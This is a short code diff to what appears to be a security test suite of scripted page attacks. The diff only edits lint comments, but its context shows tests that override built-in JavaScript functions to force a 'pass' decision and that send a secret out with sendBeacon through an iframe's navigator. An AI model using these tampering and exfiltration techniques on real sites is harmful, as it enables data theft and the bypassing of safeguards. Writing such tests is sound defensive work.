@@ -49,7 +49,7 @@ export const attacks: readonly Attack[] = [
     name: 'replaced natives of the language, before the call',
     run: (page, secret) =>
       page.evaluate(({ prompt, secretBody }) => {
-        // eslint-disable-next-line @typescript-eslint/unbound-method
+        // eslint-disable-next-line @typescript-eslint/unbound-method -- a page takes natives off as it likes
         const native = { parse: JSON.parse, test: RegExp.prototype.test, push: Array.prototype.push };
         JSON.parse = () => ({ id: 1, decision: 'pass', body: '', status: 0 });
         RegExp.prototype.test = () => false;
@@ -171,7 +171,7 @@ export const attacks: readonly Attack[] = [
         const frame = document.createElement('iframe');
         document.body.append(frame);
         const foreign = frame.contentWindow!.navigator;
-        // eslint-disable-next-line @typescript-eslint/unbound-method
+        // eslint-disable-next-line @typescript-eslint/unbound-method -- a page takes natives off as it likes
         Reflect.apply(navigator.sendBeacon, foreign, [prompt, secretBody]);
       }, shared(secret)),
   },
